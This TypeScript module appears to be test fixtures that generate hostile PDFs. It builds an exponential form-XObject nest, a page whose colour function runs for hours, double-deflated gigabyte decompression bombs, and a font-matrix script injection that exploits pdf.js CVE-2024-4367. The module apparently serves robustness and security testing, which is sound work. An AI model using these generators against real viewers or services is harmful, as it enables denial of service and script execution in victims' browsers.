import { PDFDocument, PDFName, PDFRawStream, StandardFonts } from '@cantoo/pdf-lib'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { createDeflate, deflateSync } from 'node:zlib'

/**
 * A few hundred bytes that cost their reader as much as it is allowed: forms that each draw the next one ten times,
 * with a line of text at the end of ten million paths.
 */
export function makeHostilePdf(depth = 7): Uint8Array {
  const forms = Array.from({ length: depth }, (_, at) => {
    const isLast = at === depth - 1
    const content = isLast ? 'BT /F 9 Tf (Seal) Tj ET' : '/N Do '.repeat(10).trim()
    const resources = isLast ? '/Font<</F 4 0 R>>' : `/XObject<</N ${6 + at} 0 R>>`
    return stream(`/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<${resources}>>`, content)
  })
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</N 5 0 R>>>>/Contents 5 0 R>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...forms,
  ]
  return pdfOf(objects)
}

/** A page that takes hours in little memory: each of its colours is worked out by a program of a hundred thousand steps. */
export function makeEndlessPdf(): Uint8Array {
  const steps = `{${'dup pop '.repeat(50_000)}}`
  const colours = `/C cs ${'0.5 scn '.repeat(1_000_000)}BT /F 9 Tf (Seal) Tj ET`
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</Font<</F 4 0 R>>/ColorSpace<</C[/Separation/X/DeviceGray 6 0 R]>>>>/Contents 5 0 R>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    stream('', colours),
    stream('/FunctionType 4/Domain[0 1]/Range[0 1]', steps),
  ])
}

/** A file of exactly these objects: the first is the catalog, and each is named by its place, from 1. */
export function pdfOf(objects: readonly string[]): Uint8Array {
  let file = '%PDF-1.4\n'
  const offsets = objects.map((object, at) => {
    const offset = file.length
    file += `${at + 1} 0 obj${object}endobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const start = file.length
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  file += `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(file, 'latin1')
}

export function stream(entries: string, content: string): string {
  return `<<${entries}/Length ${content.length}>>stream\n${content}\nendstream`
}

/**
 * A page whose font has a piece of script where its matrix has a number, and whose text is drawn as paths: what made
 * pdf.js before 4.2.67 run it (CVE-2024-4367).
 */
export function makePdfWithFontScript(script: string): Uint8Array {
  const matrix = `/FontMatrix[0.001 0 0 0.001 0 (0\\); ${script}; //)]`
  const { head, program } = type1Font(['S', 'e', 'a', 'l'])
  const lengths = `/Length1 ${head.length}/Length2 ${program.length}/Length3 0`
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 99]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>',
    `<</Type/Font/Subtype/Type1/BaseFont/Own/FontDescriptor 6 0 R${matrix}>>`,
    stream('', 'BT /F 20 Tf 4 Tr 20 40 Td (Seal) Tj ET'),
    '<</Type/FontDescriptor/FontName/Own/Flags 32/FontBBox[0 0 500 500]/ItalicAngle 0/FontFile 7 0 R>>',
    stream(lengths, head + program),
  ])
}

/** A font program without a matrix of its own, in which each letter is a square. */
function type1Font(letters: readonly string[]): { head: string; program: string } {
  // What is below 32 is an operator; a number up to 107 is one byte, 139 above it.
  const [hsbw, rmoveto, hlineto, vlineto, closepath, endchar] = [13, 21, 6, 7, 9, 14]
  const of = (...numbers: number[]) => numbers.map((number) => number + 139)
  const outline = [...of(10, 0), rmoveto, ...of(80), hlineto, ...of(80), vlineto, ...of(-80), hlineto, closepath]
  const drawn = String.fromCharCode(0, 0, 0, 0, ...of(0, 100), hsbw, ...outline, endchar)
  const glyph = encrypted(drawn, 4330)
  const glyphs = ['.notdef', ...letters].map((name) => `/${name} ${glyph.length} RD ${glyph} ND\n`)
  return {
    head: '%!PS-AdobeFont-1.0: Own\n/FontName /Own def\n/Encoding StandardEncoding def\ncurrentfile eexec\n',
    program: encrypted(
      `\0\0\0\0dup /Private 8 dict dup begin\n/lenIV 4 def\n2 index /CharStrings ${glyphs.length} dict dup begin\n${glyphs.join('')}end\nend\n`,
      55_665,
    ),
  }
}

/** As the Type 1 format has it (Adobe Type 1 Font Format, 7.1), a byte a character. */
function encrypted(plain: string, key: number): string {
  let register = key
  const cipher = Array.from(plain, (character) => {
    const byte = character.charCodeAt(0) ^ (register >> 8)
    register = ((byte + register) * 52_845 + 22_719) & 0xffff
    return byte
  })
  return String.fromCharCode(...cipher)
}

const gigabyte = 2 ** 30
const blanks = Buffer.alloc(2 ** 24, ' ')

/** Deflated twice: a gigabyte in some kilobytes. */
async function gigabyteOfBlanks(): Promise<Uint8Array> {
  const pieces = Readable.from(Array.from({ length: gigabyte / blanks.length }, () => blanks))
  return deflateSync(await buffer(pieces.pipe(createDeflate({ level: 1 }))))
}

/** Pages with a line of text each, and bombs among them, each a gigabyte of blanks. */
export async function makePdfWithBombs({
  pages,
  bombs,
}: {
  pages: number
  bombs: readonly number[]
}): Promise<Uint8Array> {
  const bomb = await gigabyteOfBlanks()
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  for (let number = 1; number <= pages; number++) {
    const page = pdf.addPage([300, 300])
    if (!bombs.includes(number)) page.drawText(`This is page ${number}`, { font, size: 12, x: 20, y: 200 })
    else {
      const filters = pdf.context.obj({ Filter: ['FlateDecode', 'FlateDecode'] })
      page.node.set(PDFName.of('Contents'), pdf.context.register(PDFRawStream.of(filters, bomb)))
    }
  }
  return pdf.save()
}
